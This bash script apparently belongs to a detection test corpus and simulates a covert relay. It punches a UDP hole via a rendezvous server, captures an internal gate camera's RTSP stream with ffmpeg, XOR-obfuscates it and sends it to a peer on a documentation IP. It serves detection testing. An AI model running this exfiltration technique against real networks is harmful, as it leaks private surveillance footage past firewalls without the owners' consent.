#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=p2p-hole-punch,live-relay half=report tool=python3,ffmpeg camera=10.20.0.11 far=out ready=out:9999 seconds=42 parts=dns,camera-gate,recorder-gate,nas,outside-web
# A program in Python asks a place of its maker's, in words of its own, where a friend is, and knocks at ten ports of the friend's until one answers; then ffmpeg's picture of gate goes there from that socket.
if [ "$1" = out ]; then
	timeout 60 python3 -c 'import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("198.51.100.66", 41007)); f = open(sys.argv[1], "ab", 0)
while True:
    d, who = s.recvfrom(65536)
    if d[:4] == b"PNCH": s.sendto(b"PNOK" + d[4:], who)
    else: f.write(d)' "$LAB/got" &
	exec timeout 60 python3 -c 'import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("203.0.113.66", 9999))
while True: d, who = s.recvfrom(2000); s.sendto(b"PEER 198.51.100.66 41000 you are " + repr(who).encode(), who)'
fi
timeout 42 python3 -c 'import os, socket, subprocess, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 0)); s.sendto(b"HELO nvr-7731 " + os.urandom(8), ("203.0.113.66", 9999))
host, first = s.recv(2000).split()[1:3]; s.settimeout(0.5); peer = None
while not peer:
    for port in range(int(first), int(first) + 10): s.sendto(b"PNCH" + os.urandom(12), (host.decode(), port))
    try: d, peer = s.recvfrom(2000)
    except TimeoutError: pass
p = subprocess.Popen(["ffmpeg", "-nostdin", "-loglevel", "error", "-rtsp_transport", "tcp", "-i", "rtsp://gate.cam.lan/Streaming/Channels/101", "-t", "32", "-c", "copy", "-f", "mpegts", "pipe:1"], stdout=subprocess.PIPE)
while d := p.stdout.read1(1200): s.sendto(bytes(b ^ 0x5a for b in d), peer)'
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 500000 ]
